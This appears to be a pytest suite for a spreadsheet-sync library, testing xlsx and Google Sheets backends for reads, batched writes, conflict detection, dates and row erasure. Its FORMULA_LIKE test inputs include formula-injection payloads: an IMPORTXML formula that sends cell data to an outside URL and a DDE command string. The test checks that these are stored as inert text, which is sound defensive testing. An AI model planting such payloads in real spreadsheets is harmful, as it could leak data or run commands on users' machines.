"""What every spreadsheet does, whichever it is: read at one moment, write one batch.

A new backend adds itself to `BACKENDS`; the stories stay as they are.
"""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from datetime import date, datetime, time
from pathlib import Path

import pytest

from sheets_sync.layout import PROBLEMS, TABS, Column, Owner, Tab
from sheets_sync.spreadsheet import (
    AddColumn,
    Append,
    CellFault,
    Changes,
    Edit,
    EmptyRow,
    Rewrite,
    SheetChanged,
    SheetError,
    SheetUnwritable,
    Snapshot,
    Spreadsheet,
    Stamp,
    Value,
)
from sheets_sync.xlsx import Workbook
from tests.google_sheets.opening import sharing
from tests.people import Manager, Person, table


@dataclass(frozen=True)
class Backend:
    """A spreadsheet that does not exist yet, and the person who will open it."""

    spreadsheet: Spreadsheet
    person: Person


@contextmanager
def _workbook(folder: Path) -> Iterator[Backend]:
    path = folder / "workbook.xlsx"
    yield Backend(Workbook(path), Manager(path))


@contextmanager
def _google(_folder: Path) -> Iterator[Backend]:
    with sharing() as shared:
        yield Backend(shared.opened(), shared.person)


BACKENDS: dict[str, Callable[[Path], AbstractContextManager[Backend]]] = {
    "xlsx": _workbook,
    "google": _google,
}

NOTES = Tab(
    "Notes",
    (
        Column("name", Owner.MANAGER, "Who."),
        Column("text", Owner.REPORTER, "What."),
        Column("status", Owner.TIDINGS, "How it stands."),
    ),
)


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Backend]:
    with BACKENDS[request.param](tmp_path) as backend:
        yield backend


@pytest.fixture
def sheet(backend: Backend) -> Spreadsheet:
    rows: list[list[Value]] = [["Ana", "Planned", "ok"], ["Bo", "Went", "ok"]]
    backend.spreadsheet.create((NOTES, PROBLEMS), {"Notes": rows})
    return backend.spreadsheet


@pytest.fixture
def person(backend: Backend) -> Person:
    return backend.person


def rows(snapshot: Snapshot, title: str = "Notes") -> list[list[object]]:
    """Return what a tab holds, blanks as None, trailing ones cut."""
    found = snapshot.worksheet(title)
    assert found is not None
    cut: list[list[object]] = [[None if c == "" else c for c in row] for row in found.rows]
    for row in cut:
        while row and row[-1] is None:
            row.pop()
    while cut and not cut[-1]:
        cut.pop()
    return cut


def write(sheet: Spreadsheet, **changes: object) -> Snapshot:
    """Apply one batch to what stands there now; return what stands there then."""
    sheet.write(sheet.read(), Changes(**changes))  # type: ignore[arg-type]
    return sheet.read()


def test_a_new_one_has_all_tabs_with_their_headers(backend: Backend) -> None:
    backend.spreadsheet.create(TABS, {})

    found = {w.title: rows(backend.spreadsheet.read(), w.title) for w in _tabs(backend)}
    assert found == {t.title: [[c.name for c in t.columns if not c.optional]] for t in TABS}


def _tabs(backend: Backend):
    return backend.spreadsheet.read().worksheets


def test_one_that_exists_is_never_replaced(sheet: Spreadsheet) -> None:
    before = rows(sheet.read())

    with pytest.raises(SheetError, match="exists"):
        sheet.create((NOTES,), {})

    assert rows(sheet.read()) == before


def test_rows_are_where_people_see_them(sheet: Spreadsheet, person: Person) -> None:
    # fault 23
    person.inserts_row("Notes", 1)
    person.inserts_row("Notes", 1, [None, None, "Our notes"])
    person.inserts_row("Notes", 4)

    assert rows(sheet.read()) == [
        [None, None, "Our notes"],
        [],
        ["name", "text", "status"],
        [],
        ["Ana", "Planned", "ok"],
        ["Bo", "Went", "ok"],
    ]


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("Nan", "Nan"),
        ("Infinity", "Infinity"),
        ("007", "007"),
        ("1e5", "1e5"),
        ("1,2", "1,2"),
        ("٣", "٣"),
        ("TRUE", "TRUE"),
        ("1234567890123456", "1234567890123456"),
        ("7/8/2020", "7/8/2020"),
        (" around ", " around "),
        ("two\nlines", "two\nlines"),
        (7, 7),
        (7.0, 7),
        (7.5, 7.5),
        (True, True),
        (False, False),
        (1e5, 100000),
        (date(2026, 11, 23), 46349),
        (datetime.fromisoformat("2026-11-23T18:00"), 46349.75),
        (None, None),
    ],
)
def test_values_are_read_unformatted(
    sheet: Spreadsheet, person: Person, typed: object, read: object
) -> None:
    # faults 24 and 26
    person.adds_column("Notes", "mine", ["a", "b"])
    person.types("Notes", 2, "mine", typed)  # type: ignore[arg-type]

    found = sheet.read().worksheet("Notes")

    assert found is not None
    value = found.rows[1][3]
    assert (None if value == "" else value) == read
    assert type(value) is type(read) or read is None


def test_an_error_in_a_cell_is_named(sheet: Spreadsheet, person: Person) -> None:
    # fault 25
    person.types("Notes", 2, "text", "#REF!")

    assert rows(sheet.read())[1] == ["Ana", CellFault("#REF!"), "ok"]


def test_a_batch_is_applied_in_order(sheet: Spreadsheet, person: Person) -> None:
    write(
        sheet,
        tabs=(Tab("Digests", (Column("issue", Owner.TIDINGS, "Which."),)),),
        columns=(AddColumn("Notes", 1, 3, "problem"),),
        edits=(
            Edit("Notes", 3, 2, "check"),
            Edit("Notes", 3, 3, "look"),
            Edit("Notes", 2, 2, None),
        ),
        appends=(
            Append("Notes", {0: "Cy", 1: "New"}),
            Append("Notes", {0: "Di"}),
            Append("Digests", {0: "2026-W48"}),
        ),
        rewrites=(Rewrite("Problems", [["Notes", 3, "text"]]),),
    )

    assert person.tabs() == ["Notes", "Problems", "Digests"]
    assert person.text("Notes") == table(
        "| name | text    | status | problem |",
        "| Ana  | Planned |        |         |",
        "| Bo   | Went    | check  | look    |",
        "| Cy   | New     |        |         |",
        "| Di   |         |        |         |",
    )
    assert person.cells("Problems")[1] == ["Notes", 3, "text"]
    assert person.text("Digests") == table("| issue |", "| 2026-W48 |")


def test_a_header_may_be_put_back_above_what_it_named(sheet: Spreadsheet, person: Person) -> None:
    # fault 22
    before = person.text("Notes")
    person.types("Notes", 1, "text", None)

    write(sheet, columns=(AddColumn("Notes", 1, 1, "text"),))

    assert person.text("Notes") == before
    assert rows(sheet.read())[0] == ["name", "text", "status"]


def test_a_rewrite_leaves_nothing_of_the_old_rows(sheet: Spreadsheet, person: Person) -> None:
    write(sheet, rewrites=(Rewrite("Problems", [["a", 1], ["b", 2], ["c", 3]]),))
    header = person.cells("Problems")[0]

    write(sheet, rewrites=(Rewrite("Problems", [["d", 4]]),))

    assert person.cells("Problems") == [header, ["d", 4]]


FORMULA_LIKE = [
    "=1+1",
    '=IMPORTXML("https://example.org/?"&B2,"//a")',
    "+49 30 123",
    "-x",
    "-1",
    "@sum",
    "=cmd|'/c calc'!A1",
    "\t=1+1",
    "#REF!",
    "#N/A",
    "'quoted",
    "=",
    "007",
    "1e5",
    "2026-11-23",
    "TRUE",
    "a_x000D_b",
    "{=1}",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_is_text_whatever_it_looks_like(sheet: Spreadsheet, person: Person, text: str) -> None:
    # fault 9
    after = write(
        sheet,
        edits=(Edit("Notes", 2, 2, text),),
        appends=(Append("Notes", {1: text}),),
        rewrites=(Rewrite("Problems", [[text]]),),
    )

    assert rows(after)[1][2] == text
    assert rows(after)[3][1] == text
    assert rows(after, "Problems")[1] == [text]
    assert person.is_text("Notes", 2, "status")
    assert person.is_text("Notes", 4, "text")


def test_dates_are_real_dates(sheet: Spreadsheet, person: Person) -> None:
    moment = datetime.fromisoformat("2026-11-23T14:05:09")
    after = write(
        sheet, edits=(Edit("Notes", 2, 2, date(2026, 2, 28)), Edit("Notes", 3, 2, moment))
    )

    assert [row[2] for row in rows(after)[1:]] == [46081, pytest.approx(46349.586909722)]
    assert person.cells("Notes")[1][2] in (
        date(2026, 2, 28),
        datetime.combine(date(2026, 2, 28), time()),
    )
    assert person.cells("Notes")[2][2] == moment


def test_characters_that_no_sheet_holds_are_left_out(sheet: Spreadsheet) -> None:
    # fault 8
    after = write(
        sheet,
        edits=(Edit("Notes", 2, 2, "a\x00b\x0bc\ufffed\ud800e"), Edit("Notes", 3, 2, "kept")),
    )

    assert [row[2] for row in rows(after)] == ["status", "abcde", "kept"]


def test_the_longest_text_is_kept_and_a_longer_one_refused_whole(sheet: Spreadsheet) -> None:
    # fault 7
    longest = "x" * 32_767
    before = rows(write(sheet, edits=(Edit("Notes", 2, 2, longest),)))
    assert before[1][2] == longest

    with pytest.raises(SheetUnwritable, match=r"Notes.*C3.*32,768"):
        write(sheet, edits=(Edit("Notes", 3, 2, longest + "x"), Edit("Notes", 2, 0, "Z")))

    assert rows(sheet.read()) == before


def test_a_change_between_read_and_write_is_noticed(sheet: Spreadsheet, person: Person) -> None:
    # fault 46
    base = sheet.read()
    person.sorts("Notes", "name", descending=True)

    with pytest.raises(SheetChanged):
        sheet.write(base, Changes(edits=(Edit("Notes", 2, 2, "late"),)))

    assert person.text("Notes") == table(
        "| name | text    | status |",
        "| Bo   | Went    | ok     |",
        "| Ana  | Planned | ok     |",
    )


def test_an_old_base_never_writes_twice(sheet: Spreadsheet) -> None:
    base = sheet.read()
    batch = Changes(appends=(Append("Notes", {0: "Cy"}),))
    sheet.write(base, batch)

    with pytest.raises(SheetChanged):
        sheet.write(base, batch)

    assert [row[0] for row in rows(sheet.read())] == ["name", "Ana", "Bo", "Cy"]


def test_a_tab_that_is_gone_is_a_change(sheet: Spreadsheet) -> None:
    with pytest.raises(SheetChanged, match="Gone"):
        write(sheet, edits=(Edit("Gone", 2, 0, "x"),))


def test_the_stamp_rides_with_a_batch_and_is_replaced_by_the_next(sheet: Spreadsheet) -> None:
    # fault 47
    assert sheet.read().stamp is None
    edit = (Edit("Notes", 2, 2, "x"),)

    first = write(sheet, edits=edit, stamp=Stamp("one machine", 1)).stamp
    second = write(sheet, edits=edit, stamp=Stamp("one machine", 2)).stamp
    third = write(sheet, stamp=Stamp("one machine", 3)).stamp

    assert (first, second) == (Stamp("one machine", 1), Stamp("one machine", 2))
    assert third == second, "a batch of nothing but a stamp writes nothing"


def test_what_people_do_meanwhile_is_read_as_they_left_it(
    sheet: Spreadsheet, person: Person
) -> None:
    person.copies_row("Notes", 2, 4)
    person.moves_row("Notes", 2, 3)
    person.types("Notes", 2, "name", "Bob")
    person.moves_column("Notes", "status", 0)
    person.renames_header("Notes", "text", "What happened")
    person.adds_column("Notes", "mine", ["1", "2"])
    person.adds_tab("Theirs")
    person.deletes_row("Notes", 4)

    assert rows(sheet.read()) == [
        ["status", "name", "What happened", "mine"],
        ["ok", "Bob", "Went", "1"],
        ["ok", "Ana", "Planned", "2"],
    ]
    assert rows(sheet.read(), "theirs") == []


def test_a_row_of_somebody_who_is_erased_is_emptied_and_nothing_moves(
    sheet: Spreadsheet, person: Person
) -> None:
    # fault 84
    person.adds_column("Notes", "manager's own", ["Ana's birthday", "Bo's"])

    found = write(sheet, emptied=(EmptyRow("Notes", 2),), forgotten=("Ana",))

    assert rows(found) == [
        ["name", "text", "status", "manager's own"],
        [],
        ["Bo", "Went", "ok", "Bo's"],
    ]


def test_an_emptied_row_may_be_used_again(sheet: Spreadsheet) -> None:
    write(sheet, emptied=(EmptyRow("Notes", 3),))

    found = write(sheet, appends=(Append("Notes", {0: "Cho"}),))

    assert [row for row in rows(found) if row] == [
        ["name", "text", "status"],
        ["Ana", "Planned", "ok"],
        ["Cho"],
    ]


def test_a_row_that_somebody_moved_meanwhile_is_not_emptied(
    sheet: Spreadsheet, person: Person
) -> None:
    base = sheet.read()
    person.sorts("Notes", "name", descending=True)

    with pytest.raises(SheetChanged):
        sheet.write(base, Changes(emptied=(EmptyRow("Notes", 2),)))

    assert rows(sheet.read())[1:] == [["Bo", "Went", "ok"], ["Ana", "Planned", "ok"]]


def test_nothing_to_forget_is_nothing_to_write(sheet: Spreadsheet) -> None:
    base = sheet.read()

    sheet.write(base, Changes(forgotten=("Zoe Nobody",)))

    assert rows(sheet.read()) == rows(base)
